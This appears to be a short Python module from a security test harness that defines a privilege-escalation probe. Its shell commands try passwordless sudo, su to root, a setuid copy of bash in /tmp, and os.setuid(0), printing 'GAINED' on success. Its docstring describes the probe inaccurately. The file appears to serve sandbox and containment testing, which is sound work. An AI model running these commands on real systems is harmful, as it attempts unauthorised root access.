"""Runs every program that runs as its owner, to become root."""

from attack import Attack, tried

ATTACK = Attack(
    (
        tried(
            "sudo -n true && echo GAINED; echo | timeout 5 su -c true root && echo GAINED\n"
            "cp /bin/bash /tmp/b && chmod u+s /tmp/b && /tmp/b -p -c '[ $EUID != 1000 ] && [ $EUID != '$EUID' ] && echo GAINED'\n"
            "python3 -c 'import os; os.setuid(0)' 2>/dev/null && [ \"$(id -u)\" != 0 ] && echo GAINED; rm /tmp/b"
        ),
    )
)
